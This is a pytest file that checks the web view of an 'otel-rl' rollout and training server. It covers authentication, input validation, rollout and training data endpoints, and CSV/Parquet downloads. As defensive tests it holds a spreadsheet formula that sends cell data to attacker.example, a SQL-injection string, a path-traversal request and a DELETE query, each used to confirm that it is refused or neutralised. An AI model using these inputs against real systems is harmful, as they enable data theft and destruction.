"""The web view's JSON endpoints on a real `otel-rl serve`: credentials, clear refusals, and what each page
reads (rollouts, a rollout's timeline, the token-mask inspector, training curves, CSV/Parquet downloads)."""

from __future__ import annotations

import io
import time
import uuid

import httpx
import numpy as np
import polars as pl
import pytest
from opentelemetry.exporter.otlp.proto.http.trace_exporter import OTLPSpanExporter
from opentelemetry.sdk.resources import Resource
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.trace import set_span_in_context

from otel_rl import attributes as attr
from otel_rl.train.records import EvalRecord, RunRecorder, StepRecord

PROMPT = [1, 2, 3, 4]
ANSWER_1 = [10, 11, 12]
TOOL_RESULT = [20, 21]  # inserted between the two answers: the tool's output, in the second call's prompt
ANSWER_2 = [13, 14]


def packed(values: list[int] | list[float], dtype: str) -> bytes:
    return np.asarray(values, dtype=dtype).tobytes()


CALL_NS, CALL_EVERY_NS = 2_000_000, 3_000_000  # each call of a rollout lasts 2 ms, one starts every 3 ms


def emit_rollout(  # noqa: ANN001
    server, *, rollout_id: str, group_id: str, reward: float, service_name: str = "ui-test-agent"
) -> None:
    """A two-call rollout recorded as the gateway records one: exact token ids and logprobs on each call
    span, the second call's prompt the first call's prompt, answer and tool result; a grader's reward."""
    provider = TracerProvider(resource=Resource.create({"service.name": service_name}))
    exporter = OTLPSpanExporter(endpoint=f"{server.http_url}/v1/traces", headers=server.auth)
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    identity = {
        attr.ROLLOUT_ID: rollout_id,
        attr.GROUP_ID: group_id,
        attr.TASK_ID: "ui-task",
        attr.SPLIT: "train",
    }
    root = provider.get_tracer(attr.SDK_SCOPE).start_span(attr.SDK_ROLLOUT_SPAN_NAME, attributes=identity)
    gateway = provider.get_tracer(attr.GATEWAY_SCOPE)
    started_ns = time.time_ns()
    calls = ((PROMPT, ANSWER_1), (PROMPT + ANSWER_1 + TOOL_RESULT, ANSWER_2))
    for number, (prompt, answer) in enumerate(calls):
        call = gateway.start_span(
            "chat tiny",
            context=set_span_in_context(root),
            start_time=started_ns + number * CALL_EVERY_NS,
            attributes=identity
            | {
                "gen_ai.operation.name": "chat",
                "gen_ai.request.model": "tiny",
                "gen_ai.usage.input_tokens": len(prompt),
                "gen_ai.usage.output_tokens": len(answer),
                "gen_ai.response.finish_reasons": ["stop"],
                attr.POLICY_VERSION: 1,
                attr.PROMPT_TOKEN_IDS: packed(prompt, "<i4"),
                attr.CHOICE_TOKEN_IDS.format(i=0): packed(answer, "<i4"),
                attr.CHOICE_LOGPROBS.format(i=0): packed([-0.5] * len(answer), "<f4"),
            },
        )
        call.end(end_time=started_ns + number * CALL_EVERY_NS + CALL_NS)
    root.add_event(
        attr.EVALUATION_EVENT,
        {
            attr.EVALUATION_NAME: "outcome",
            attr.EVALUATION_SCORE_VALUE: reward,
            attr.REWARD_SOURCE: attr.REWARD_SOURCE_GRADER,
        },
    )
    root.end()
    provider.shutdown()


@pytest.fixture(scope="module")
def group(otel_rl_server) -> dict[str, str]:
    """Two rollouts of one group, rewards 1 and 0, and a training run of two steps and an evaluation."""
    tag = uuid.uuid4().hex[:8]
    ids = {
        "group": f"ui-group-{tag}",
        "good": f"ui-good-{tag}",
        "bad": f"ui-bad-{tag}",
        "run": f"ui-run-{tag}",
    }
    emit_rollout(otel_rl_server, rollout_id=ids["good"], group_id=ids["group"], reward=1.0)
    emit_rollout(otel_rl_server, rollout_id=ids["bad"], group_id=ids["group"], reward=0.0)
    recorder = RunRecorder(otel_rl_server.http_url, otel_rl_server.token, ids["run"])
    for step in (1, 2):
        figures = dict.fromkeys(("collect_s", "transform_s", "train_s", "save_s", "reload_s"), 0.1)
        figures |= dict.fromkeys(("paused_s", "drain_s"), 0.01)
        record = StepRecord(
            step=step, policy_version=step + 1, group_ids=[ids["group"]], reward_mean=0.5 * step,
            success_rate=0.25 * step, rollouts=2, samples=2, sampled_tokens=10, response_tokens=12,
            stale_groups=0, wall_s=0.6, trainer={"mismatch": 1e-3 / step, "loss": 0.1}, **figures,
        )  # fmt: skip
        recorder.record(attr.TRAIN_STEP_SPAN_NAME, record, time.time_ns())
    evaluation = EvalRecord(
        "greedy", step=2, policy_version=3, rollouts=4, reward_mean=0.5, success_rate=0.5, wall_s=1
    )
    recorder.record(attr.TRAIN_EVAL_SPAN_NAME, evaluation, time.time_ns())
    recorder.close()
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:  # the store's group commit: visible once written
        found = otel_rl_server.sql(f"SELECT count(*) FROM rollouts WHERE group_id = '{ids['group']}'")
        if found.column(0)[0].as_py() == 2:
            return ids
        time.sleep(0.1)
    raise AssertionError("the rollouts did not reach the store")


def get(server, path: str, **params) -> httpx.Response:  # noqa: ANN001
    return httpx.get(f"{server.http_url}{path}", params=params, headers=server.auth, timeout=60)


def test_the_page_is_public_and_every_data_endpoint_needs_the_admin_token(otel_rl_server, group):
    page = httpx.get(f"{otel_rl_server.http_url}/ui/", timeout=10)
    assert page.status_code == 200 and '<script type="module" src="/ui/assets/app.js">' in page.text
    assert "default-src 'self'" in page.headers["content-security-policy"]  # no script from elsewhere
    script = httpx.get(f"{otel_rl_server.http_url}/ui/assets/app.js", timeout=10)
    assert script.status_code == 200 and script.headers["content-type"].startswith("text/javascript")
    assert httpx.get(f"{otel_rl_server.http_url}/ui/assets/..%2Fqueries.py", timeout=10).status_code == 404
    for path in (
        "/ui/api/rollouts",
        f"/ui/api/rollouts/{group['good']}",
        f"/ui/api/rollouts/{group['good']}/samples",
        "/ui/api/training/runs",
        "/ui/api/training/steps",
    ):
        for headers in ({}, {"Authorization": "Bearer wrong"}):
            refused = httpx.get(f"{otel_rl_server.http_url}{path}", headers=headers, timeout=10)
            assert refused.status_code == 401, (path, refused.text)
            assert refused.headers["www-authenticate"] == "Bearer"


def test_unknown_and_malformed_ids_and_filters_are_refused_clearly(otel_rl_server, group):
    missing = get(otel_rl_server, "/ui/api/rollouts/no-such-rollout")
    assert missing.status_code == 404 and "no rollout 'no-such-rollout'" in missing.json()["detail"]
    assert get(otel_rl_server, "/ui/api/rollouts/no-such-rollout/samples").status_code == 404
    too_long = get(otel_rl_server, "/ui/api/rollouts/" + "x" * 300)
    assert too_long.status_code == 422 and "rollout_id" in too_long.text
    for params in ({"min_reward": "high"}, {"limit": 0}, {"since": "yesterday"}, {"format": "xlsx"}):
        assert get(otel_rl_server, "/ui/api/rollouts", **params).status_code == 422, params
    assert get(otel_rl_server, "/ui/api/training/curves").status_code == 422
    # a filter value is data, never SQL: the quote is matched literally
    quoted = get(otel_rl_server, "/ui/api/rollouts", group="x' OR '1'='1")
    assert quoted.status_code == 200 and quoted.json()["rows"] == []


def test_the_rollouts_table_filters_and_downloads(otel_rl_server, group):
    both = get(otel_rl_server, "/ui/api/rollouts", group=group["group"]).json()
    assert sorted(r["rollout_id"] for r in both["rows"]) == sorted([group["good"], group["bad"]])
    assert not both["more"] and {r["n_calls"] for r in both["rows"]} == {2}
    good = get(otel_rl_server, "/ui/api/rollouts", group=group["group"], min_reward=0.5, split="train").json()
    assert [r["rollout_id"] for r in good["rows"]] == [group["good"]]
    page = get(otel_rl_server, "/ui/api/rollouts", group=group["group"], limit=1).json()
    assert len(page["rows"]) == 1 and page["more"]
    csv = get(otel_rl_server, "/ui/api/rollouts", group=group["group"], format="csv")
    assert csv.headers["content-disposition"] == 'attachment; filename="rollouts.csv"'
    assert sorted(pl.read_csv(io.BytesIO(csv.content))["rollout_id"]) == sorted([group["good"], group["bad"]])
    parquet = get(otel_rl_server, "/ui/api/rollouts", group=group["group"], format="parquet")
    assert pl.read_parquet(io.BytesIO(parquet.content)).height == 2


def test_a_rollout_naming_itself_with_a_formula_downloads_as_text_in_csv_and_as_is_in_parquet(otel_rl_server):
    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"open")'
    tag = uuid.uuid4().hex[:8]
    emit_rollout(
        otel_rl_server, rollout_id=f"-1+{tag}", group_id=f"@g-{tag}", reward=1.0, service_name=formula
    )
    deadline = time.monotonic() + 20
    while not get(otel_rl_server, "/ui/api/rollouts", group=f"@g-{tag}").json()["rows"]:
        assert time.monotonic() < deadline, "the rollout did not reach the store"
        time.sleep(0.1)

    csv = get(otel_rl_server, "/ui/api/rollouts", group=f"@g-{tag}", format="csv")
    parquet = get(otel_rl_server, "/ui/api/rollouts", group=f"@g-{tag}", format="parquet")

    (row,) = pl.read_csv(io.BytesIO(csv.content), infer_schema=False).to_dicts()
    assert row["service_name"] == "'" + formula and row["rollout_id"] == f"'-1+{tag}"
    assert row["group_id"] == f"'@g-{tag}" and row["outcome_reward"] == "1.0"  # numbers stay numbers
    assert not any(line.startswith(("=", "+", "-", "@")) for line in csv.text.splitlines())
    (kept,) = pl.read_parquet(io.BytesIO(parquet.content)).to_dicts()
    assert kept["service_name"] == formula and kept["rollout_id"] == f"-1+{tag}"


def test_a_rollout_shows_its_calls_messages_usage_and_reward(otel_rl_server, group):
    body = get(otel_rl_server, f"/ui/api/rollouts/{group['good']}").json()
    assert body["rollout"]["status"] == "ok" and body["rollout"]["outcome_reward"] == 1.0
    calls = body["calls"]
    assert [c["input_tokens"] for c in calls] == [4, 9] and [c["output_tokens"] for c in calls] == [3, 2]
    assert all(c["policy_version"] == 1 for c in calls)
    assert [c["ended_ms"] - c["started_ms"] for c in calls] == [CALL_NS / 1e6] * 2
    assert calls[1]["started_ms"] - calls[0]["started_ms"] == CALL_EVERY_NS / 1e6
    assert [(r["level"], r["value"], r["source"]) for r in body["rewards"]] == [("outcome", 1.0, "grader")]


def test_the_inspector_shows_a_merged_sample_token_by_token(otel_rl_server, group):
    body = get(otel_rl_server, f"/ui/api/rollouts/{group['good']}/samples").json()
    assert body["decoded"] is False and body["trainer_logprobs"] is None  # no model folder: ids
    (segment,) = body["segments"]  # both calls merged into one sample
    assert segment["ids"] == PROMPT + ANSWER_1 + TOOL_RESULT + ANSWER_2
    assert segment["mask"] == [0] * 4 + [1] * 3 + [0] * 2 + [1] * 2
    assert segment["logprob"] == [None] * 4 + [-0.5] * 3 + [None] * 2 + [-0.5] * 2
    assert [(c["start"], c["end"]) for c in segment["calls"]] == [(4, 7), (9, 11)]
    assert segment["advantage"] > 0  # the better of the group's two rollouts
    assert segment["advantage_per_token"] == [segment["advantage"] if m else None for m in segment["mask"]]
    worse = get(otel_rl_server, f"/ui/api/rollouts/{group['bad']}/samples").json()
    assert worse["segments"][0]["advantage"] == pytest.approx(-segment["advantage"])

    download = get(otel_rl_server, f"/ui/api/rollouts/{group['good']}/samples", format="csv")
    tokens = pl.read_csv(io.BytesIO(download.content))
    assert tokens["token_id"].to_list() == segment["ids"] and tokens["trained"].sum() == 5
    assert tokens["call_span_id"].drop_nulls().n_unique() == 2


def test_the_training_charts_read_the_runs_records(otel_rl_server, group):
    runs = get(otel_rl_server, "/ui/api/training/runs").json()
    assert {"run_id": group["run"], "steps": 2, "evals": 1}.items() <= next(
        r for r in runs if r["run_id"] == group["run"]
    ).items()
    steps = get(otel_rl_server, "/ui/api/training/steps", run_id=group["run"]).json()
    assert [(s["step"], s["reward_mean"], s["mismatch"]) for s in steps] == [(1, 0.5, 1e-3), (2, 1.0, 5e-4)]
    evals = get(otel_rl_server, "/ui/api/training/evals", run_id=group["run"]).json()
    assert [(e["eval"], e["step"], e["success_rate"]) for e in evals] == [("greedy", 2, 0.5)]
    staleness = get(otel_rl_server, "/ui/api/training/staleness", run_id=group["run"]).json()
    # step 1 (version 2) trained on calls of version 1: current; step 2 (version 3) on the same: one behind
    assert [(s["step"], s["max_lag"]) for s in staleness] == [(1, 0), (2, 1)]
    download = get(otel_rl_server, "/ui/api/training/steps", run_id=group["run"], format="parquet")
    assert pl.read_parquet(io.BytesIO(download.content))["train_s"].to_list() == [0.1, 0.1]


def test_the_sql_box_goes_through_the_sandboxed_query_api(otel_rl_server, group):
    url = f"{otel_rl_server.http_url}/v1/query"
    headers = otel_rl_server.auth | {"Accept": "application/json"}
    sql = f"SELECT rollout_id FROM rollouts WHERE group_id = '{group['group']}' ORDER BY 1"
    rows = httpx.post(url, json={"sql": sql}, headers=headers, timeout=30).json()
    assert [r["rollout_id"] for r in rows] == sorted([group["good"], group["bad"]])
    refused = httpx.post(url, json={"sql": "DELETE FROM spans"}, headers=headers, timeout=30)
    assert refused.status_code == 400 and "only read queries" in refused.json()["detail"]
    assert (
        httpx.post(url, json={"sql": "SELECT 1"}, headers={"Accept": "application/json"}).status_code == 401
    )
